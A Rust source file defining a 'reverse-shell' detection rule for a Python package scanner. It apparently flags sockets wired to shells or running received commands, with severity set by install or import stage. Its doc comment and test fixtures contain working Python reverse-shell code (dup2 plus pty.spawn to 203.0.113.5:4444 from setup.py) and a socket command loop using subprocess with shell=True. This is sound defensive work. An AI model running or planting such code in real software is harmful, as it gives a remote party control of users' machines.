use super::vocab;
use crate::declare_rule;
use crate::inspect::python::Call;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Finds reverse shells and remote-command loops: a function that
    /// connects a socket and then wires it to a shell (`os.dup2` of the
    /// socket onto stdin/stdout, `pty.spawn`), or that receives data from a
    /// socket and runs it as a command or as code.
    ///
    /// ## Why is this bad?
    /// It hands control of the machine to whoever listens on the other end.
    /// No library does this to the process that imports or installs it.
    ///
    /// ## Example
    /// ```python
    /// s = socket.socket(); s.connect(("203.0.113.5", 4444))     # Error
    /// os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); pty.spawn("/bin/sh")
    /// s = socket.create_connection((host, port)); s.sendall(b"ping")  # No error
    /// ```
    ///
    /// ## False positives
    /// Remote debuggers and terminal multiplexers wire sockets to ptys; inside
    /// functions this is `high` (review), not `deny`.
    ReverseShell, id = "reverse-shell", severity = Critical,
    summary = "connects a socket and wires it to a shell, or runs commands received from it"
}

fn is_connect(c: &Call) -> bool {
    c.name == "socket.create_connection" || (c.name.starts_with("socket.socket(") && c.name.ends_with(".connect"))
}

fn is_receive(c: &Call) -> bool {
    (c.name.starts_with("socket.socket(") || c.name.starts_with("socket.create_connection("))
        && (c.name.ends_with(".recv") || c.name.ends_with(".recvfrom") || c.name.ends_with(".makefile"))
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let code = unit.code;
            for connect in code.calls.iter().filter(|c| is_connect(c)) {
                let same = |c: &&Call| c.scope == connect.scope;
                let wired = code
                    .calls
                    .iter()
                    .filter(same)
                    .find(|c| matches!(c.name.as_str(), "os.dup2" | "pty.spawn"));
                let received = code.calls.iter().filter(same).any(is_receive);
                let runs = code
                    .calls
                    .iter()
                    .filter(same)
                    .find(|c| vocab::is_shell(&c.name) || vocab::is_exec(&c.name));
                let (what, at) = match (wired, received, runs) {
                    (Some(w), _, _) => (format!("wires a connected socket to a shell with {}()", w.name), w),
                    (None, true, Some(r)) => (format!("runs commands received over a socket with {}()", r.name), r),
                    _ => continue,
                };
                let stage = connect.stage.max(at.stage);
                let severity = match stage {
                    Stage::Install | Stage::Import => Severity::Critical,
                    Stage::Call => Severity::High,
                    Stage::Auxiliary => Severity::Low,
                };
                let message = format!("{what} {}", stage.describe());
                out.push(unit.finding(Self::META.id, severity, at.line, message).at(stage));
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::{check, setup_py};

    #[test]
    fn fires_on() {
        // Error: classic dup2 reverse shell, called from setup.py.
        let src = "import socket, os, pty\ndef shell():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('203.0.113.5', 4444))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')\nshell()\n";
        let f = setup_py(&ReverseShell, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // Error: command loop in a library function.
        let src = "import socket, subprocess\ndef loop(h):\n    s = socket.socket()\n    s.connect((h, 1))\n    while True:\n        cmd = s.recv(1024)\n        subprocess.Popen(cmd, shell=True)\n";
        let f = check(&ReverseShell, Kind::Wheel, &[("pkg/net.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn quiet_on() {
        // No error: a client that connects and sends.
        let src = "import socket\ndef ping(h):\n    s = socket.create_connection((h, 80))\n    s.sendall(b'x')\n    return s.recv(10)\n";
        assert!(check(&ReverseShell, Kind::Wheel, &[("pkg/net.py", src)]).is_empty());
        // No error: dup2 on pipes, no socket.
        let src = "import os\ndef redirect(fd):\n    os.dup2(fd, 1)\n";
        assert!(check(&ReverseShell, Kind::Wheel, &[("pkg/io.py", src)]).is_empty());
    }
}
